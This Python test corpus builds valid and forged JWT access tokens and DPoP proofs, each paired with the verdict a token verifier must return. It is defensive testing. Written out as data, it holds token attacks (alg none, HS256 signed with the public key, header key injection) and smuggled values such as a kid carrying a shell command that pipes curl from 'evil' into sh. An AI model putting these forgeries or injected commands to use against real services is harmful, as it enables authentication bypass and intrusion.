"""One table of good and bad tokens, with the verdict that every door must give.

The expected verdicts are written here by hand, from the standards; none is copied from what a door said.
"""

import hashlib
import hmac
import json
import os
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, Literal

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from forge import Key, b64, encoded
from jwcrypto import jwk, jwt

ISSUER = "https://id.test"
ACME = "https://acme.test"
TEXT = "https://api.test/v1"
ALGS = ["RS256", "PS256", "ES256", "ES384", "Ed25519"]
MAX_LIFETIME = 3600
LEEWAY = 300
"""The most there can be, so that a slow machine does not turn one verdict into another."""
NOBODY = "http://127.0.0.1:1/"


@dataclass(frozen=True)
class Door:
    """One request, and what it needs."""

    method: str
    path: str
    api: str
    scopes: list[str]
    object_tenant: str | None = None
    demand: dict[str, Any] = field(default_factory=dict)
    """What it demands besides scopes, in the words of `Verifier.need`."""

    @property
    def url(self) -> str:
        """As callers write it: on the host of its API."""
        return f"https://api.test{self.path}"


@dataclass(frozen=True)
class Shown:
    """How a token is shown, and what comes along."""

    scheme: Literal["Bearer", "DPoP"] = "Bearer"
    proofs: Callable[[], list[str]] = list
    """The values of the DPoP headers, made anew for every door: a proof is good for a minute, and once."""
    certificate: bytes | None = None
    """The client's, which a proxy hands on. What is in it does not matter here."""

    @property
    def hash(self) -> bytes | None:
        return None if self.certificate is None else hashlib.sha256(self.certificate).digest()


BARE = Shown()
BASIC = Door("POST", "/generate", "text", ["generate:basic"])
PREMIUM = Door("POST", "/generate/premium", "text", ["generate:advanced"])
BOTH = Door("POST", "/batch", "text", ["generate:basic", "batch:create"])
ACME_DOOR = Door("POST", "/acme/generate", "acme", ["generate:basic"])
OBJECT = Door("GET", "/tenants/acme/usage", "text", ["usage:read"], object_tenant="acme")
STRICT = Door("POST", "/strict", "text", ["generate:basic"], demand={"dpop": "required"})
NONCE = Door("POST", "/nonce", "text", ["generate:basic"], demand={"dpop_nonce": True})
SHOWN = Door("POST", "/shown", "text", ["generate:basic"], demand={"client_certificate": "required"})
STRONG = Door("POST", "/strong", "text", ["generate:basic"], demand={"acr": ["mfa"]})
FRESH = Door("POST", "/fresh", "text", ["generate:basic"], demand={"max_age": 900})
FOREIGN = Door("POST", "/foreign", "text", ["generate:basic"], demand={"acr": ["urn:other:gold"]})
DOORS = [BASIC, PREMIUM, BOTH, ACME_DOOR, OBJECT, STRICT, NONCE, SHOWN, STRONG, FRESH, FOREIGN]
APIS: list[dict[str, Any]] = [
    {"name": "text", "audience": TEXT, "tenant": None},
    {"name": "acme", "audience": "https://api.test/acme", "tenant": "acme"},
]


@dataclass(frozen=True)
class Case:
    """A token at a door. Without a code it must be let through."""

    name: str
    token: str
    code: str | None = None
    check: str | None = None
    door: Door = BASIC
    too_large_for_http: bool = field(default=False)
    """The gateway's HTTP layer refuses it before there is a decision."""
    shown: Shown = BARE


@dataclass(frozen=True)
class Keys:
    rs: Key
    ps: Key
    es: Key
    es384: Key
    ed: Key
    acme: Key
    thief: Key

    @classmethod
    def make(cls) -> "Keys":
        return cls(
            Key.make("rs", "RS256"),
            Key.make("ps", "PS256"),
            Key.make("es", "ES256"),
            Key.make("es384", "ES384"),
            Key.make("ed", "Ed25519"),
            Key.make("acme", "ES256"),
            Key.make("thief", "ES256"),
        )

    def main_set(self) -> dict[str, Any]:
        return {"keys": [key.public() for key in (self.rs, self.ps, self.es, self.es384, self.ed)]}

    def acme_set(self) -> dict[str, Any]:
        return {"keys": [self.acme.public()]}


@dataclass
class Makers:
    """What every case is a deviation from."""

    keys: Keys
    now: int
    canary: str
    count: int = 0

    def claims(self, **more: Any) -> dict[str, Any]:
        """A good token's claims; a claim given as `...` is left out."""
        self.count += 1
        claims = {
            "iss": ISSUER,
            "sub": "free-app",
            "aud": TEXT,
            "client_id": "free-app",
            "iat": self.now,
            "exp": self.now + 600,
            "jti": f"corpus-{self.count}",
            "scope": "generate:basic",
        } | more
        return {name: value for name, value in claims.items() if value is not ...}

    def es(self, header: dict[str, Any] | None = None, **claims: Any) -> str:
        """By our ES256 key, with changes to its header and its claims."""
        return self.keys.es.token(self.keys.es.header(**(header or {})), self.claims(**claims))

    def signed(self, header: bytes, payload: bytes) -> str:
        return self.keys.es.token(header, payload)


def make(keys: Keys, canary: str) -> list[Case]:
    to = Makers(keys, int(time.time()), canary)
    groups = [good, algorithms, headers, key_names, remote_keys, formats, signatures, types]
    groups += [times, claims_, audiences, issuers, purposes, tenants, scopes]
    groups += [bound, unbound, proofs, certificates, sign_ins]
    cases = [case for group in groups for case in group(to)]
    assert len({case.name for case in cases}) == len(cases)
    return cases


def good(to: Makers) -> Iterator[Case]:
    for key in (to.keys.rs, to.keys.ps, to.keys.es, to.keys.es384, to.keys.ed):
        yield Case(f"good, {key.alg}", key.token(key.header(), to.claims()))
    # By a library that is not ours, from a JWK.
    for key, alg in ((to.keys.rs, "RS256"), (to.keys.es, "ES256"), (to.keys.ed, "EdDSA")):
        token = jwt.JWT(header=key.header(alg=alg), claims=to.claims(), algs=[alg])
        token.make_signed_token(jwk.JWK.from_pyca(key.private))
        yield Case(f"good, made by jwcrypto with {alg}", token.serialize())
    yield Case("good, without kid", to.es({"kid": None}))
    yield Case("good, application/at+jwt", to.es({"typ": "application/at+jwt"}))
    yield Case("good, AT+JWT", to.es({"typ": "AT+JWT"}))
    yield Case("good, audience in a list", to.es(aud=["https://other.test", TEXT]))
    yield Case("good, more scope than needed", to.es(scope="model:list generate:basic usage:read"))
    yield Case("good, advanced implies basic", to.es(scope="generate:advanced"))
    yield Case("good, premium at premium", to.es(scope="generate:premium"), door=PREMIUM)
    yield Case("good, all of two scopes", to.es(scope="batch:create generate:basic"), door=BOTH)
    yield Case("good, with a tenant", to.es(tenant="acme"))
    yield Case("good, exp with a fraction", to.es(exp=to.now + 600.5))
    yield Case("good, expired within the leeway", to.es(iat=to.now - 100, exp=to.now - 5))
    yield Case("good, begins within the leeway", to.es(nbf=to.now + 5))
    yield Case("good, foreign claims", to.es(roles=["admin"], act={"sub": "x"}, more={"a": [1, None]}))
    yield Case("good, unknown words in scope", to.es(scope="openid generate:basic x-y"))
    yield Case("good, unicode in sub", to.es(sub="François 山田"))


def algorithms(to: Makers) -> Iterator[Case]:
    for name in ("none", "None", "NONE", "nOnE"):
        message = f"{encoded(to.keys.es.header(alg=name))}.{encoded(to.claims())}"
        yield Case(f"alg {name}, no signature", f"{message}.", "bad_token_header", "header")
        old = to.es({"alg": name})
        yield Case(f"alg {name}, a signature all the same", old, "bad_token_header", "header")
    pem = to.keys.rs.private.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = to.keys.rs.private.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    document = json.dumps(to.keys.rs.public()).encode()
    for name, secret in (("PEM", pem), ("DER", der), ("JWK", document), ("nothing", b"")):
        message = f"{encoded(to.keys.rs.header(alg='HS256'))}.{encoded(to.claims())}"
        mac = hmac.new(secret, message.encode(), hashlib.sha256).digest()
        yield Case(f"HS256 keyed with the public key as {name}", f"{message}.{b64(mac)}", "bad_token_header", "header")
    yield Case("no alg", to.es({"alg": None}), "bad_token_header", "header")
    yield Case("alg in lower case", to.es({"alg": "es256"}), "bad_token_header", "header")
    yield Case("alg is a number", to.es({"alg": 256}), "bad_token_header", "header")
    yield Case("alg that this issuer does not use", to.es({"alg": "RS512"}), "bad_token_header", "header")
    yield Case("alg of encryption", to.es({"alg": "dir", "enc": "A256GCM"}), "bad_token_header", "header")
    yield Case(
        "RS256 by a key for PS256", to.keys.ps.token(to.keys.ps.header(alg="RS256"), to.claims()), "unknown_key", "key"
    )
    yield Case("ES256 named, the kid is RSA", to.es({"kid": "rs"}), "unknown_key", "key")


def headers(to: Makers) -> Iterator[Case]:
    refused = ("bad_token_header", "header")
    claims = encoded(to.claims()).encode()
    payload = json.dumps(to.claims()).encode()
    yield Case("crit names something unknown", to.es({"crit": ["exp2"], "exp2": 1}), *refused)
    yield Case("crit is empty", to.es({"crit": []}), *refused)
    yield Case("crit is no list", to.es({"crit": "exp"}), *refused)
    yield Case("crit names b64, b64 is false", to.es({"crit": ["b64"], "b64": False}), *refused)
    yield Case("b64 is false without crit", to.es({"b64": False}), *refused)
    yield Case("b64 is true", to.es({"b64": True}), *refused)
    twice = b'{"alg":"ES256","kid":"es","typ":"at+jwt","alg":"none"}'
    yield Case("alg twice in the header", to.signed(twice, payload), *refused)
    twice = b'{"alg":"ES256","kid":"thief","typ":"at+jwt","k\\u0069d":"es"}'
    yield Case("kid twice, once escaped", to.signed(twice, payload), *refused)
    yield Case("header is a list", to.signed(b'["ES256"]', payload), *refused)
    yield Case("header is no JSON", to.signed(b"ES256", payload), *refused)
    yield Case("header is not UTF-8", to.signed(b'{"alg":"ES256","kid":"\xff\xfe","typ":"at+jwt"}', payload), *refused)
    yield Case(
        "header with something behind it", to.signed(b'{"alg":"ES256","kid":"es","typ":"at+jwt"} {}', payload), *refused
    )
    yield Case(
        "header with a byte order mark",
        to.signed(b'\xef\xbb\xbf{"alg":"ES256","kid":"es","typ":"at+jwt"}', payload),
        *refused,
    )
    deep = b'{"alg":"ES256","kid":"es","typ":"at+jwt","x":' + b"[" * 1000 + b"]" * 1000 + b"}"
    yield Case("header nested 1000 deep", to.signed(deep, payload), *refused)
    long = to.es({"x": "y" * 5000})
    yield Case("header of 5 KB", long, "malformed_token", "format")
    huge = f"{encoded(to.keys.es.header(x='y' * 1_000_000))}.{claims.decode()}.AAAA"
    yield Case("header of 1 MB", huge, "credential_too_large", "credential", too_large_for_http=True)
    yield Case("token of 12 KB", to.es(more="y" * 9000), "credential_too_large", "credential")


def key_names(to: Makers) -> Iterator[Case]:
    unknown, refused = ("unknown_key", "key"), ("bad_token_header", "header")
    yield Case("kid of nobody", to.es({"kid": "nobody"}), *unknown)
    yield Case("kid is a path", to.es({"kid": "../../../../dev/null"}), *unknown)
    yield Case("kid is a URL", to.es({"kid": f"{to.canary}/kid"}), *unknown)
    yield Case("kid is SQL", to.es({"kid": "x' UNION SELECT 'AAAA';--"}), *refused)
    yield Case("kid is a command", to.es({"kid": "es;curl evil|sh"}), *refused)
    yield Case("kid with NUL", to.es({"kid": "es\x00"}), *refused)
    yield Case("kid is empty", to.es({"kid": ""}), *refused)
    yield Case("kid is a number", to.es({"kid": 1}), *refused)
    yield Case("kid is a list", to.es({"kid": ["es"]}), *refused)
    yield Case("kid of 200 bytes", to.es({"kid": "k" * 200}), *refused)
    yield Case("kid of 10 KB", to.es({"kid": "k" * 10_000}), "credential_too_large", "credential")
    yield Case("kid in other case", to.es({"kid": "ES"}), *unknown)


def remote_keys(to: Makers) -> Iterator[Case]:
    thief = to.keys.thief
    members = {
        "jku": f"{to.canary}/jku.json",
        "x5u": f"{to.canary}/x5u.pem",
        "jwk": thief.public(),
        "x5c": [b64(b"no certificate")],
    }
    for name, value in members.items():
        header = thief.header(**{name: value})
        yield Case(f"{name}, and the thief's kid", thief.token(header, to.claims()), "unknown_key", "key")
        header = thief.header(**{name: value, "kid": "es"})
        yield Case(f"{name}, and our kid", thief.token(header, to.claims()), "bad_signature", "signature")
        yield Case(f"good, {name} is not looked at", to.es({name: value}))
    header = thief.header(jwk=thief.public(), kid=None)
    yield Case("jwk, and no kid", thief.token(header, to.claims()), "bad_signature", "signature")


def formats(to: Makers) -> Iterator[Case]:
    malformed = ("malformed_token", "format")
    token = to.es()
    header, claims, signature = token.split(".")
    yield Case("two segments", f"{header}.{claims}", *malformed)
    yield Case("four segments", f"{token}.AAAA", *malformed)
    yield Case("five segments", f"{header}.AAAA.AAAA.AAAA.AAAA", *malformed)
    yield Case("no header", f".{claims}.{signature}", "bad_token_header", "header")
    yield Case("dots alone", "..", "bad_token_header", "header")
    yield Case("padding", f"{header}==.{claims}.{signature}", *malformed)
    yield Case("padding at the end", f"{token}==", *malformed)
    yield Case("base64 of the other alphabet", f"{header}.{claims}.{'+/' * 43}", *malformed)
    yield Case("percent-encoded dots", token.replace(".", "%2E"), "not_a_token", "credential_kind")
    yield Case("stray bits in the signature", f"{header}.{claims}.{stray(signature)}", *malformed)
    yield Case(
        "stray bits in the header",
        f"{stray(encoded(b' ' + json.dumps(to.keys.es.header()).encode()))}.{claims}.{signature}",
        *malformed,
    )
    yield Case("an impossible length of base64", f"{token}AAA", *malformed)
    yield Case("a client secret of ours", "pcs_0123456789abcdef0123456789abcdef", "not_a_token", "credential_kind")
    yield Case("an OpenAI-style key", "sk-proj-0123456789abcdef", "not_a_token", "credential_kind")
    yield Case("an Anthropic key", "sk-ant-api03-0123456789abcdef", "not_a_token", "credential_kind")
    yield Case("an opaque string", "0123456789abcdef0123456789abcdef", "not_a_token", "credential_kind")
    payload = json.dumps(to.claims()).encode()
    plain = json.dumps(to.keys.es.header()).encode()
    twice = payload[:-1] + b',"scope":"generate:advanced"}'
    yield Case("scope twice", to.signed(plain, twice), *malformed)
    twice = payload[:-1] + b',"sc\\u006fpe":"generate:advanced"}'
    yield Case("scope twice, once escaped", to.signed(plain, twice), *malformed)
    twice = payload[:-1] + b',"act":{"sub":"a","sub":"b"}}'
    yield Case("a member twice further inside", to.signed(plain, twice), *malformed)
    deep = payload[:-1] + b',"x":' + b"[" * 1000 + b"]" * 1000 + b"}"
    yield Case("payload nested 1000 deep", to.signed(plain, deep), *malformed)
    endless = payload.replace(b'"exp": %d' % (to.now + 600), b'"exp": 1e999')
    yield Case("exp is 1e999", to.signed(plain, endless), *malformed)
    # Whose token it is cannot be read, so nobody's key is tried.
    twice = b'{"iss":"https://evil.test",' + payload[1:]
    yield Case("iss twice", to.signed(plain, twice), "untrusted_issuer", "issuer")
    for name, text in (
        ("payload is a list", b"[]"),
        ("payload is no JSON", b"claims"),
        ("payload is empty", b""),
        ("payload with something behind it", payload + b"{}"),
    ):
        yield Case(name, to.signed(plain, text), "untrusted_issuer", "issuer")


def stray(segment: str) -> str:
    """The same bytes, with bits set that belong to none of them (RFC 4648 §3.5)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(segment) % 4, "no bits are left over"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) | 1]


def signatures(to: Makers) -> Iterator[Case]:
    bad = ("bad_signature", "signature")
    es = to.keys.es
    message = to.es().rpartition(".")[0]
    right = es.sign(message.encode())
    half = len(right) // 2

    def with_(signature: bytes) -> str:
        return f"{message}.{b64(signature)}"

    yield Case("ECDSA in DER", with_(es.der(message.encode())), *bad)
    yield Case("ECDSA with r = 0", with_(bytes(half) + right[half:]), *bad)
    yield Case("ECDSA with s = 0", with_(right[:half] + bytes(half)), *bad)
    yield Case("ECDSA with r = s = 0", with_(bytes(2 * half)), *bad)
    yield Case("ECDSA cut short", with_(right[:-1]), *bad)
    yield Case("ECDSA with a byte more", with_(b"\0" + right), *bad)
    # RFC 7518 §3.4 allows either s: it is the same signature's twin, and no token is known by it.
    yield Case("good, ECDSA with the other s", with_(es.other_s(right)))
    yield Case("no signature", f"{message}.", *bad)
    yield Case("one bit of the signature changed", with_(right[:-1] + bytes([right[-1] ^ 1])), *bad)
    first, signature = message.partition(".")[0], b64(right)
    yield Case(
        "claims changed after signing", f"{first}.{encoded(to.claims(scope='generate:premium'))}.{signature}", *bad
    )
    yield Case("by another's key under our kid", to.keys.thief.token(es.header(), to.claims()), *bad)
    yield Case("by our key for another algorithm's name", to.keys.rs.token(to.keys.ps.header(), to.claims()), *bad)
    ed = to.keys.ed
    message = f"{encoded(ed.header())}.{encoded(to.claims())}"
    yield Case("Ed25519 cut short", f"{message}.{b64(ed.sign(message.encode())[:-1])}", *bad)


def types(to: Makers) -> Iterator[Case]:
    for typ in ("JWT", "dpop+jwt", "logout+jwt", "secevent+jwt", "client-authentication+jwt", "at+jwt ", "xat+jwt", ""):
        yield Case(f"typ {typ!r}", to.es({"typ": typ}), "wrong_token_type", "type")
    yield Case("no typ", to.es({"typ": None}), "wrong_token_type", "type")
    yield Case("typ is a list", to.es({"typ": ["at+jwt"]}), "bad_token_header", "header")


def times(to: Makers) -> Iterator[Case]:
    yield Case("expired", to.es(iat=to.now - 1700, exp=to.now - 1100), "expired", "time")
    yield Case("expired since 1970", to.es(iat=0, exp=1), "expired", "time")
    yield Case("nbf in the future", to.es(nbf=to.now + 3000), "not_yet_valid", "time")
    yield Case("iat in the future", to.es(iat=to.now + 3000), "not_yet_valid", "time")
    yield Case("lives too long", to.es(exp=to.now + MAX_LIFETIME + 60), "lives_too_long", "time")
    yield Case("lives for a century", to.es(exp=to.now + 3_155_760_000), "lives_too_long", "time")


def claims_(to: Makers) -> Iterator[Case]:
    bad = ("bad_claims", "claims")
    gone: Any = ...
    for name in ("sub", "aud", "client_id", "iat", "exp", "jti"):
        yield Case(f"no {name}", to.es(**{name: gone}), *bad)
        yield Case(f"{name} is null", to.es(**{name: None}), *bad)
        yield Case(f"{name} is an object", to.es(**{name: {}}), *bad)
    for value in (str(to.now + 600), 1e300, 99999999999999999999, -1, True, [to.now + 600]):
        yield Case(f"exp is {str(value)[:24]} ({type(value).__name__})", to.es(exp=value), *bad)
    yield Case("nbf is text", to.es(nbf="0"), *bad)
    yield Case("sub is empty", to.es(sub=""), *bad)
    yield Case("sub is a number", to.es(sub=1), *bad)
    yield Case("sub of 600 bytes", to.es(sub="s" * 600), *bad)
    yield Case("jti with a space", to.es(jti="a b"), *bad)
    yield Case("jti of 200 bytes", to.es(jti="j" * 200), *bad)
    yield Case("tenant that cannot be one", to.es(tenant="Acme Inc."), *bad)
    yield Case("tenant is a list", to.es(tenant=["acme"]), *bad)
    yield Case("scope is a number", to.es(scope=1), *bad)
    yield Case("scope is an object", to.es(scope={"generate:basic": True}), *bad)


def audiences(to: Makers) -> Iterator[Case]:
    wrong = ("wrong_audience", "audience")
    for name, aud in (
        ("of another API of ours", "https://api.test/acme"),
        ("a prefix", "https://api.test"),
        ("with a suffix", f"{TEXT}/"),
        ("with a longer suffix", f"{TEXT}.evil.test"),
        ("in other case", "https://API.test/v1"),
        ("with the default port", "https://api.test:443/v1"),
        ("with a query", f"{TEXT}?x=1"),
        ("empty", ""),
        ("two in one string", f"{TEXT} https://other.test"),
        ("a star", "*"),
        ("a list of others", ["https://other.test", f"{TEXT}/"]),
        ("the API's name", "text"),
    ):
        yield Case(f"audience {name}", to.es(aud=aud), *wrong)
    bad = ("bad_claims", "claims")
    yield Case("audience is an empty list", to.es(aud=[]), *bad)
    yield Case("audience in a list within a list", to.es(aud=[[TEXT]]), *bad)
    yield Case("audience beside a number", to.es(aud=[TEXT, 1]), *bad)
    yield Case("audience among a hundred", to.es(aud=[TEXT] * 100), *bad)


def issuers(to: Makers) -> Iterator[Case]:
    wrong = ("untrusted_issuer", "issuer")
    for name, iss in (
        ("foreign", "https://evil.test"),
        ("with a slash more", f"{ISSUER}/"),
        ("in other case", "https://ID.test"),
        ("by http", "http://id.test"),
        ("with the default port", "https://id.test:443"),
        ("empty", ""),
        ("missing", ...),
        ("null", None),
        ("a number", 1),
        ("a list", [ISSUER]),
        ("with a space", f" {ISSUER}"),
        ("on the canary", f"{to.canary}"),
    ):
        yield Case(f"issuer {name}", to.es(iss=iss), *wrong)
    acme = to.keys.acme
    claims = to.claims(tenant="acme")
    yield Case(
        "our issuer's name, another trusted issuer's key", acme.token(acme.header(), claims), "unknown_key", "key"
    )
    claims = to.claims(iss=ACME, tenant="acme")
    yield Case(
        "another trusted issuer's name, our key", to.keys.es.token(to.keys.es.header(), claims), "unknown_key", "key"
    )
    yield Case(
        "another trusted issuer's kid, our key", to.keys.es.token(acme.header(), claims), "bad_signature", "signature"
    )


def purposes(to: Makers) -> Iterator[Case]:
    wrong = ("wrong_purpose", "purpose")
    yield Case("nonce, as an ID token has", to.es(nonce="n"), *wrong)
    yield Case("at_hash, as an ID token has", to.es(at_hash="h"), *wrong)
    yield Case("c_hash, as an ID token has", to.es(c_hash="h"), *wrong)
    events: dict[str, Any] = {"http://schemas.openid.net/event/backchannel-logout": {}}
    yield Case("events, as a logout token has", to.es(events=events), *wrong)
    yield Case("token_use id", to.es(token_use="id"), *wrong)
    yield Case("good, token_use access", to.es(token_use="access"))


def tenants(to: Makers) -> Iterator[Case]:
    wrong = ("wrong_tenant", "tenant")
    aud = "https://api.test/acme"
    yield Case("good, at its tenant's API", to.es(aud=aud, tenant="acme"), door=ACME_DOOR)
    yield Case("no tenant at a tenant's API", to.es(aud=aud), *wrong, door=ACME_DOOR)
    yield Case("another tenant at a tenant's API", to.es(aud=aud, tenant="umbrella"), *wrong, door=ACME_DOOR)
    yield Case("a longer name at a tenant's API", to.es(aud=aud, tenant="acme2"), *wrong, door=ACME_DOOR)
    acme = to.keys.acme
    yield Case("good, a tenant's issuer", acme.token(acme.header(), to.claims(iss=ACME, tenant="acme")))
    stolen = to.claims(iss=ACME, tenant="umbrella")
    yield Case("a tenant's issuer for another tenant", acme.token(acme.header(), stolen), *wrong)
    yield Case("a tenant's issuer for no tenant", acme.token(acme.header(), to.claims(iss=ACME)), *wrong)
    good = to.es(scope="usage:read", tenant="acme")
    yield Case("good, its own tenant's object", good, door=OBJECT)
    other = to.es(scope="usage:read", tenant="umbrella")
    yield Case("another tenant's object", other, "not_found", "object", door=OBJECT)
    granted = to.es(scope="usage:read:acme", tenant="umbrella")
    yield Case("good, another tenant's object by a scope that names it", granted, door=OBJECT)
    yield Case("a tenant's object, no tenant", to.es(scope="usage:read"), "not_found", "object", door=OBJECT)
    yield Case(
        "a tenant's object, no scope",
        to.es(scope="generate:basic", tenant="acme"),
        "missing_scope",
        "scope",
        door=OBJECT,
    )


@dataclass(frozen=True)
class Wallet:
    """A client's key for DPoP, and what it signs with it."""

    key: Key

    @property
    def public(self) -> dict[str, Any]:
        return {name: value for name, value in self.key.public().items() if name not in ("kid", "alg", "use")}

    @property
    def jkt(self) -> str:
        return str(jwk.JWK(**self.public).thumbprint())

    def header(self, **more: Any) -> dict[str, Any]:
        members = {"typ": "dpop+jwt", "alg": self.key.alg, "jwk": self.public} | more
        return {name: value for name, value in members.items() if value is not ...}

    def claims(self, door: Door, token: str, **more: Any) -> dict[str, Any]:
        claims = {
            "jti": os.urandom(12).hex(),
            "htm": door.method,
            "htu": door.url,
            "iat": int(time.time()),
            "ath": b64(hashlib.sha256(token.encode()).digest()),
        } | more
        return {name: value for name, value in claims.items() if value is not ...}

    def proof(self, door: Door, token: str, header: dict[str, Any] | None = None, **claims: Any) -> str:
        """For this door and token, with changes."""
        return self.key.token(self.header(**(header or {})), self.claims(door, token, **claims))

    def shows(self, token: str, door: Door = BASIC, header: dict[str, Any] | None = None, **claims: Any) -> Shown:
        return Shown("DPoP", lambda: [self.proof(door, token, header, **claims)])


def bound(to: Makers) -> Iterator[Case]:
    for alg in ("ES256", "ES384", "Ed25519", "PS256", "RS256"):
        wallet = Wallet(Key.make("", alg))
        token = to.es(cnf={"jkt": wallet.jkt})
        yield Case(f"good, bound to a key, {alg}", token, shown=wallet.shows(token))
    holder, thief = Wallet(Key.make("", "ES256")), Wallet(Key.make("", "ES256"))
    token = to.es(cnf={"jkt": holder.jkt})
    yield Case("good, bound, where it is demanded", token, door=STRICT, shown=holder.shows(token, STRICT))
    both = to.es(cnf={"jkt": holder.jkt, "kid": "x"})
    yield Case("good, bound to a key and something else", both, shown=holder.shows(both))
    no = ("not_the_holder", "binding")
    yield Case("a bound token as Bearer", token, *no)
    with_proof = Shown("Bearer", holder.shows(token).proofs)
    yield Case("a bound token as Bearer, with its proof", token, *no, shown=with_proof)
    yield Case("a proof by another key", token, *no, shown=thief.shows(token))
    for name, cnf in (("an unknown member", {"kid": "x"}), ("a whole key", {"jwk": holder.public}), ("nothing", {})):
        yield Case(f"bound to {name}", to.es(cnf=cnf), *no)
    for name, wrong in (("a list", ["x"]), ("text", "x"), ("a short jkt", {"jkt": "x"}), ("a number", {"jkt": 1})):
        yield Case(f"cnf is {name}", to.es(cnf=wrong), "bad_claims", "claims")


def unbound(to: Makers) -> Iterator[Case]:
    wallet = Wallet(Key.make("", "ES256"))
    no = ("not_the_holder", "binding")
    token = to.es()
    yield Case("good, null as cnf", to.es(cnf=None))
    yield Case("an unbound token as DPoP", token, *no, shown=wallet.shows(token))
    yield Case("an unbound token as DPoP, without a proof", token, *no, shown=Shown("DPoP"))
    yield Case("an unbound token where a key is demanded", token, *no, door=STRICT)
    yield Case("good, a proof that nobody asked for", token, shown=Shown("Bearer", wallet.shows(token).proofs))


def proofs(to: Makers) -> Iterator[Case]:
    holder, thief = Wallet(Key.make("", "ES256")), Wallet(Key.make("", "ES256"))
    token = to.es(cnf={"jkt": holder.jkt})
    bad = ("invalid_dpop_proof", "binding")
    yield Case("no proof", token, *bad, shown=Shown("DPoP"))
    yield Case("an empty proof", token, *bad, shown=Shown("DPoP", lambda: [""]))
    yield Case("no JWT as proof", token, *bad, shown=Shown("DPoP", lambda: ["proof"]))
    yield Case("a huge proof", token, *bad, shown=Shown("DPoP", lambda: [f"a.{'b' * 9000}.c"]))
    two = Shown("DPoP", lambda: [holder.proof(BASIC, token), holder.proof(BASIC, token)])
    yield Case("two proofs", token, *bad, shown=two)
    listed = Shown("DPoP", lambda: [f"{holder.proof(BASIC, token)}, {holder.proof(BASIC, token)}"])
    yield Case("two proofs in a list", token, *bad, shown=listed)
    yield Case("the token as its proof", token, *bad, shown=Shown("DPoP", lambda: [token]))
    secret = json.loads(jwk.JWK.from_pyca(holder.key.private).export())
    oct_key = {"kty": "oct", "k": b64(b"x" * 32)}
    headers_: dict[str, dict[str, Any]] = {
        "no typ": {"typ": ...},
        "typ JWT": {"typ": "JWT"},
        "no alg": {"alg": ...},
        "alg none": {"alg": "none"},
        "alg HS256": {"alg": "HS256"},
        "alg of another curve": {"alg": "ES384"},
        "alg that nobody has": {"alg": "XX256"},
        "no jwk": {"jwk": ...},
        "jwk is text": {"jwk": "x"},
        "the private key in jwk": {"jwk": secret},
        "a shared secret as jwk": {"jwk": oct_key},
        "another's public key in jwk": {"jwk": thief.public},
        "crit": {"crit": ["x"], "x": 1},
        "b64": {"b64": False},
    }
    for name, header in headers_.items():
        yield Case(f"proof: {name}", token, *bad, shown=holder.shows(token, header=header))
    now = int(time.time())
    claims: dict[str, dict[str, Any]] = {
        "another method": {"htm": "GET"},
        "a method in small letters": {"htm": "post"},
        "no htm": {"htm": ...},
        "another path": {"htu": "https://api.test/generate/premium"},
        "another host": {"htu": "https://evil.test/generate"},
        "another scheme": {"htu": "http://api.test/generate"},
        "a path alone": {"htu": "/generate"},
        "a user in htu": {"htu": "https://api.test@evil.test/generate"},
        "no htu": {"htu": ...},
        "made an hour ago": {"iat": now - 3600},
        "made in an hour": {"iat": now + 3600},
        "no iat": {"iat": ...},
        "iat in words": {"iat": "now"},
        "no ath": {"ath": ...},
        "ath of another token": {"ath": b64(hashlib.sha256(b"other").digest())},
        "ath with padding": {"ath": b64(hashlib.sha256(token.encode()).digest()) + "="},
        "no jti": {"jti": ...},
        "an empty jti": {"jti": ""},
        "a long jti": {"jti": "j" * 129},
    }
    for name, changes in claims.items():
        yield Case(f"proof: {name}", token, *bad, shown=holder.shows(token, **changes))
    for name, htu in (
        ("a query", "https://api.test/generate?x=1#y"),
        ("capitals and the port", "HTTPS://API.test:443/generate"),
        ("a needless escape", "https://api.test/%67enerate"),
    ):
        yield Case(f"good, htu with {name}", token, shown=holder.shows(token, htu=htu))
    nonce = ("use_dpop_nonce", "binding")
    yield Case("proof: no nonce where one is wanted", token, *nonce, door=NONCE, shown=holder.shows(token, NONCE))
    made_up = holder.shows(token, NONCE, nonce="A" * 22)
    yield Case("proof: a nonce that is made up", token, *nonce, door=NONCE, shown=made_up)
    yield Case("good, a nonce that nobody asked for", token, shown=holder.shows(token, nonce="x"))


def certificates(to: Makers) -> Iterator[Case]:
    holder = Wallet(Key.make("", "ES256"))
    x5t = b64(hashlib.sha256(b"the holder's").digest())
    own, other = Shown(certificate=b"the holder's"), Shown(certificate=b"another's")
    token = to.es(cnf={"x5t#S256": x5t})
    no = ("not_the_holder", "binding")
    yield Case("good, bound to a certificate", token, shown=own)
    yield Case("good, bound to a certificate, where it is demanded", token, door=SHOWN, shown=own)
    yield Case("a certificate's token without one", token, *no)
    yield Case("a certificate's token with another", token, *no, shown=other)
    yield Case("an unbound token where a certificate is demanded", to.es(), *no, door=SHOWN, shown=own)
    yield Case("good, an unbound token over a connection with a certificate", to.es(), shown=own)
    both = to.es(cnf={"x5t#S256": x5t, "jkt": holder.jkt})
    proof = holder.shows(both).proofs
    yield Case("good, bound to a key and a certificate", both, shown=Shown("DPoP", proof, b"the holder's"))
    yield Case("bound to both, with the key alone", both, *no, shown=Shown("DPoP", proof))
    yield Case("bound to both, with the certificate alone", both, *no, shown=own)
    yield Case("x5t#S256 is no hash", to.es(cnf={"x5t#S256": "x"}), "bad_claims", "claims")


def sign_ins(to: Makers) -> Iterator[Case]:
    weak = ("insufficient_user_authentication", "authentication")
    for acr in ("mfa", "phr"):
        yield Case(f"good, acr {acr}", to.es(acr=acr), door=STRONG)
    for wrong in ("pwd", "MFA", "mfa2", "urn:other:gold", "mfa phr"):
        yield Case(f"acr {wrong!r}", to.es(acr=wrong), *weak, door=STRONG)
    yield Case("no acr", to.es(), *weak, door=STRONG)
    yield Case("good, another issuer's acr", to.es(acr="urn:other:gold"), door=FOREIGN)
    yield Case("ours where another's acr is wanted", to.es(acr="phr"), *weak, door=FOREIGN)
    yield Case("good, signed in just now", to.es(auth_time=to.now), door=FRESH)
    yield Case("signed in an hour ago", to.es(auth_time=to.now - 3600), *weak, door=FRESH)
